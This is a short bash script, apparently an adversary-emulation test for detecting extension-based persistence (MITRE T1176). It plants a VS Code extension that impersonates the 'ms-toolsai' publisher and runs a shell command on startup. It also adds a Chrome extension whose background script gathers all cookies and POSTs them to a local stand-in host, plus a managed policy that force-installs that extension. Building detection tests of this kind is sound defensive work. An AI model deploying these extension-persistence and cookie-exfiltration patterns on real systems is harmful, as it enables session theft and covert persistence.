#!/bin/bash
# Side-load extensions without the applications: an unpacked VS Code extension in
# ~/.vscode/extensions, an unpacked Chrome extension in the Default profile, and a Chrome
# managed policy that force-installs one. Neither Chrome nor VS Code is installed; these are
# the folders they read at start.
# technique: T1176 T1176.001 T1176.002
# expect: software-extension-install
set -eu
export HOME=/root
ext=$HOME/.vscode/extensions/ms-toolsai.notebook-helper-1.4.2
mkdir -p "$ext/out"
cat > "$ext/package.json" <<'JSON'
{"name": "notebook-helper", "publisher": "ms-toolsai", "version": "1.4.2",
 "engines": {"vscode": "^1.80.0"}, "main": "./out/extension.js",
 "activationEvents": ["onStartupFinished"]}
JSON
echo 'require("child_process").exec("id > /tmp/.vsx");' > "$ext/out/extension.js"
crx=$HOME/.config/google-chrome/Default/Extensions/kbfnbcaeplbcioakkpcpgfkobkghlhen/1.0_0
mkdir -p "$crx"
echo '{"manifest_version": 3, "name": "Docs Helper", "version": "1.0", "background": {"service_worker": "bg.js"}, "permissions": ["cookies", "<all_urls>"]}' > "$crx/manifest.json"
echo 'chrome.cookies.getAll({}, c => fetch("http://127.0.0.1:9/", {method: "POST", body: JSON.stringify(c)}));' > "$crx/bg.js"
mkdir -p /etc/opt/chrome/policies/managed
echo '{"ExtensionInstallForcelist": ["kbfnbcaeplbcioakkpcpgfkobkghlhen;http://127.0.0.1:9/update.xml"]}' \
    > /etc/opt/chrome/policies/managed/helper.json
